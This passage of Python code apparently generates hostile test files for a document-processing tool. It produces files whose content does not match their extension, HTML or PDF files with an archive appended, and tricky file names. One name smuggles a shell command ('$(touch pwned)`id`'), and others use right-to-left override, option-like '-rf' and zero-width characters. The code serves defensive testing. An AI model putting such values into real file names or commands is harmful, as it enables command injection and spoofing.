        (".xlsx", (program, good, ole, text, paper)),
        (".html", (program, good, picture, paper)),
        (".csv", (program, book, ole, paper)),
        (".png", (program, good, paper, text)),
    ):
        for i, content in enumerate(wrong):
            yield Hostile(f"名不副实{i}{suffix}", content, REFUSED)
        yield Hostile(f"空文件{suffix}", b"", REFUSED)
    yield Hostile("程序.doc", program, REFUSED)
    yield Hostile("既是网页又是压缩包.html", b"<html>" + good, EITHER)
    yield Hostile("既是PDF又是压缩包.pdf", paper + good, EITHER)


def names(_: random.Random) -> Iterator[Hostile]:
    content = f"<title>办法</title><p>{SENTENCES}</p>".encode()
    for name in (
        "换\n行.html",
        "回\r车.html",
        "反转\u202elmth.html",
        "表情😀🎉.html",
        "-rf.html",
        "--help.html",
        "..点点.html",
        "引'号\"$(touch pwned)`id`;&.html",
        "{source}%s%n.html",
        "空 格\t.html",
        "字" * 80 + ".html",
        "大写.HTML",
        "零\u200b宽\ufeff.html",
        "~.html",
        "*?[].html",
    ):
        yield Hostile(name, content, READ)


def main(arguments: list[str]) -> None:
    folder = Path(arguments[0])
    folder.mkdir(parents=True, exist_ok=True)
    for file in hostile_files():
        (folder / file.name).write_bytes(file.content)


if __name__ == "__main__":
    main(sys.argv[1:])
